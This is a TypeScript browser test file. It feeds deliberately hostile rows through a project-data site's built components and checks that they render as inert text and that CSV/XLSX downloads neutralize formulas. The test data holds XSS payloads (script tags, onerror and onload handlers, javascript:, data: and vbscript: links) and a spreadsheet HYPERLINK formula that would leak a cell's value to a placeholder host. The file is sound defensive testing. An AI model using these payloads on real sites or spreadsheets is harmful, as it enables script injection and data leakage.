// Hostile text from the sources, rendered by the built site's own components in the browser. The
// real editions carry no hostile text, so a small harness page (in a temporary folder beside links
// to dist/_import, _npm and _node) imports the explorer, project page, chart, table and download
// modules that the build wrote, and renders rows made to break them: no script may run, no dialog
// open, no handler attribute or `javascript:` link appear; the text shows as written; the
// downloads neutralize formulas.
import { mkdtemp, readdir, readFile, rm, symlink, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import type { Page } from "playwright-core";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import * as XLSX from "xlsx";
import { launchBrowser, openPage, type Browser, type PageReport } from "./browser.js";
import { DEFAULT_DIST, startServer, type StaticServer } from "./server.js";

const MODULES = [
  "explorer",
  "project-page",
  "project-trajectory-chart",
  "phase-path-chart",
  "data-table",
  "sql-table",
  "download-button",
  "export",
  "project-columns",
] as const;

/** Strings meant to run code, break out of attributes or render as markup. */
const HOSTILE = {
  name: `<script>alert("name")</script>`,
  description: `<img src=x onerror=alert(1)>\n**gras** [lien](javascript:alert(2)) <iframe src="javascript:alert(3)"></iframe>\n# Titre`,
  ministry: `<svg onload=alert(4)>`,
  ministry_published: `"><script>alert(5)</script>`,
  financing: `=HYPERLINK("https://example.invalid/?x="&A1,"cliquer")`,
  functional_zone: `<a href="javascript:alert(6)">zone</a>`,
  phase: `<b onmouseover=alert(11)>Cadrage</b>`,
  source_file: `<script>alert(12)</script>.csv`,
};

const LINKS = [
  `javascript:alert(7)`,
  ` JaVaScRiPt:alert(8)`,
  `data:text/html,<script>alert(9)</script>`,
  `vbscript:msgbox(1)`,
  `//evil.example/x`,
  `https://example.org/ok`,
];

function hostileRows(): Record<string, unknown>[] {
  return ["2016-11", "2017-06", "2018-11"].map((edition, i) => ({
    edition,
    project_key: `x"><img src=x onerror=alert(10)>`,
    name: HOSTILE.name,
    ministry: HOSTILE.ministry,
    ministry_published: HOSTILE.ministry_published,
    interministerial: i === 0,
    description: i === 2 ? HOSTILE.description : `${HOSTILE.description} (v${i})`,
    start_date: "2015-01-01",
    duration_years: 3 + i,
    phase: i === 1 ? HOSTILE.phase : "Cadrage",
    figures_withheld: false,
    cost_meur: 10 + i,
    functional_zone: HOSTILE.functional_zone,
    functional_zone_published: HOSTILE.functional_zone,
    financing: HOSTILE.financing,
    more_info_url: LINKS[i * 2],
    more_info_urls: [LINKS[i * 2]],
    pap_url: LINKS[i * 2 + 1],
    pap_urls: [LINKS[i * 2 + 1]],
    source_kind: "spreadsheet",
    source_file: HOSTILE.source_file,
    source_row: 2 + i,
  }));
}

function harness(paths: Record<(typeof MODULES)[number], string>): string {
  // "<" escaped: a literal "</script>" in the data would end the harness's own script element.
  const rows = JSON.stringify(hostileRows()).replaceAll("<", "\\u003c");
  const imp = (name: (typeof MODULES)[number]) => JSON.stringify(`/${paths[name]}`);
  return `<!DOCTYPE html>
<html lang="fr"><head><meta charset="utf-8"><link rel="icon" href="data:,"><title>Harnais</title></head>
<body><main id="root"></main>
<script type="module">
import {explorerTable, inflate} from ${imp("explorer")};
import {projectFacts, projectDescription, projectLinks, projectEditionsTable, phasePathList, movementsList} from ${imp("project-page")};
import {projectTrajectoryChart} from ${imp("project-trajectory-chart")};
import {phasePathChart} from ${imp("phase-path-chart")};
import {dataTable} from ${imp("data-table")};
import {sqlTable} from ${imp("sql-table")};
import {downloadButton} from ${imp("download-button")};
import {toCsv, toXlsx} from ${imp("export")};
import {PROJECT_EXPORT_COLUMNS} from ${imp("project-columns")};
const rows = ${rows};
const root = document.getElementById("root");
const table = explorerTable({caption: rows[0].name});
root.append(table.element);
table.update(inflate({editions: [], descriptions: rows.map((r) => r.description), rows: rows.map((r, i) => ({...r, description: i}))}));
const page = {
  project_key: rows[0].project_key,
  history: {name: rows[0].name, ministry: rows[0].ministry, first_edition: "2016-11", last_edition: "2018-11", editions_count: 3, gaps: null,
    first_cost_meur: 10, last_cost_meur: 12, first_cost_edition: "2016-11", last_cost_edition: "2018-11", cost_change_meur: 2, cost_change_ratio: 0.2,
    first_duration_years: 3, last_duration_years: 5, duration_change_years: 2, phases: rows.map((r) => r.phase).join(" → "), still_listed: true},
  rows,
  movements: [{edition: "2017-06", previous_edition: "2016-11", movement: "entered"}],
  editions: rows.map((r) => ({edition: r.edition, label: r.name}))
};
root.append(projectFacts(page), projectDescription(rows), projectLinks(rows), projectEditionsTable(page), phasePathList(page), movementsList(page));
root.append(projectTrajectoryChart(page, {width: 600, metric: "cost"}), projectTrajectoryChart(page, {width: 600, metric: "duration"}), phasePathChart(page, {width: 600}));
root.append(dataTable(rows, [{label: rows[0].name, key: "name", href: (r) => r.more_info_url}, {label: "PAP", key: "pap_url", href: (r) => r.pap_url}], {caption: rows[0].description}));
// A query result in the shape query-results.ts gives: rows keyed by header, the query in .query.
const names = ["name", "ministry", "description", "cost_meur"];
const result = Object.assign(rows.map((r) => Object.fromEntries(names.map((n) => [n, r[n]]))), {
  query: {name: rows[0].name, sql: rows[0].description, columns: names.map((n) => ({name: n, type: n === "cost_meur" ? "DOUBLE" : "VARCHAR", kind: n === "cost_meur" ? "number" : "text"}))},
});
root.append(sqlTable(result, {caption: rows[0].name}));
root.append(downloadButton("CSV", "hostile.csv", () => toCsv(rows, PROJECT_EXPORT_COLUMNS), "text/csv"));
root.append(downloadButton("XLSX", "hostile.xlsx", () => toXlsx(rows, PROJECT_EXPORT_COLUMNS), "application/octet-stream"));
window.__rendered = true;
</script>
</body></html>`;
}

async function builtModules(): Promise<Record<(typeof MODULES)[number], string>> {
  const dir = join(DEFAULT_DIST, "_import", "components");
  const files = await readdir(dir);
  const out = {} as Record<(typeof MODULES)[number], string>;
  for (const name of MODULES) {
    const match = files.find((f) => new RegExp(`^${name}\\.[0-9a-f]{8}\\.js$`).test(f));
    if (!match) throw new Error(`${name}: no built module in ${dir} (run npm run build)`);
    out[name] = `_import/components/${match}`;
  }
  return out;
}

describe("hostile text in the built components, in the browser", () => {
  let root: string;
  let server: StaticServer;
  let browser: Browser;
  let page: Page;
  let report: PageReport;
  const dialogs: string[] = [];

  beforeAll(async () => {
    root = await mkdtemp(join(tmpdir(), "panorama-hostile-"));
    for (const entry of await readdir(DEFAULT_DIST)) {
      if (entry.startsWith("_")) await symlink(join(DEFAULT_DIST, entry), join(root, entry));
    }
    await writeFile(join(root, "index.html"), harness(await builtModules()));
    server = await startServer(root);
    browser = await launchBrowser();
    ({ page, report } = await openPage(browser, `${server.url}/`));
    page.on("dialog", (d) => {
      dialogs.push(d.message());
      void d.dismiss();
    });
    await page.waitForFunction(() => (window as unknown as { __rendered?: boolean }).__rendered === true, undefined, { timeout: 30_000 });
    // Tips are drawn on hover: hover every dot, then sort the table, to run every code path.
    for (const dot of await page.locator("svg circle").all()) await dot.hover({ force: true });
    for (const button of await page.locator("button.sort").all()) await button.click();
    await page.waitForTimeout(300);
  });

  afterAll(async () => {
    await browser?.close();
    await server?.close();
    if (root && !process.env.KEEP_HARNESS) await rm(root, { recursive: true, force: true });
  });

  it("renders everything, with no error and no request leaving the machine", async () => {
    expect(report.consoleErrors).toEqual([]);
    expect(report.failedRequests).toEqual([]);
    expect(report.externalRequests).toEqual([]);
    expect(await page.locator("#root table").count()).toBeGreaterThanOrEqual(4);
    expect(await page.locator("#root svg[aria-label]").count()).toBe(3);
  });

  it("runs no script and opens no dialog", async () => {
    expect(dialogs).toEqual([]);
    expect(await page.locator("script").count()).toBe(1);
    expect(await page.locator("#root img, #root iframe, #root b, #root h1, #root strong").count()).toBe(0);
  });

  it("creates no event-handler attribute", async () => {
    const handlers = await page.$$eval("#root *", (els) =>
      els.flatMap((el) => [...el.attributes].filter((a) => a.name.toLowerCase().startsWith("on")).map((a) => `${el.tagName} ${a.name}`)),
    );
    expect(handlers).toEqual([]);
  });

  it("links only to http(s) URLs or to site paths, never javascript:, data: or vbscript:", async () => {
    const hrefs = await page.$$eval("#root a[href]", (as) => as.map((a) => a.getAttribute("href") ?? ""));
    expect(hrefs.length).toBeGreaterThan(0);
    for (const href of hrefs) {
      expect(href, href).not.toMatch(/^\s*(javascript|data|vbscript):/i);
      expect(href.startsWith("//"), href).toBe(false);
    }
    expect(hrefs).toContain("https://example.org/ok");
    const external = await page.$$eval('#root a[href^="http"]', (as) => as.map((a) => a.getAttribute("rel")));
    expect(external.every((rel) => rel?.includes("noopener") && rel.includes("noreferrer"))).toBe(true);
  });

  it.each(Object.entries(HOSTILE).filter(([k]) => k !== "description"))("shows the %s as text, as written", async (_, text) => {
    expect(await page.locator("#root").textContent()).toContain(text);
  });

  it("shows the description as text, Markdown and tags included", async () => {
    const text = (await page.locator(".project-description").textContent()) ?? "";
    for (const line of HOSTILE.description.split("\n")) expect(text).toContain(line);
  });

  it("neutralizes formulas in the CSV and XLSX downloads", async () => {
    const [csv] = await Promise.all([page.waitForEvent("download"), page.getByRole("button", { name: "CSV" }).click()]);
    const text = await readFile((await csv.path())!, "utf-8");
    expect(text).toContain(`"'=HYPERLINK(""https://example.invalid/?x=""&A1,""cliquer"")"`);
    const [xlsx] = await Promise.all([page.waitForEvent("download"), page.getByRole("button", { name: "XLSX" }).click()]);
    const book = XLSX.read(await readFile((await xlsx.path())!), { cellFormula: true });
    const sheet = book.Sheets[book.SheetNames[0]!]!;
    const cells = Object.entries(sheet)
      .filter(([ref]) => !ref.startsWith("!"))
      .map(([, c]) => c as XLSX.CellObject);
    expect(cells.some((c) => c.f)).toBe(false);
    expect(cells.some((c) => c.v === `'${HOSTILE.financing}`)).toBe(true);
    expect(dialogs).toEqual([]);
  });
});
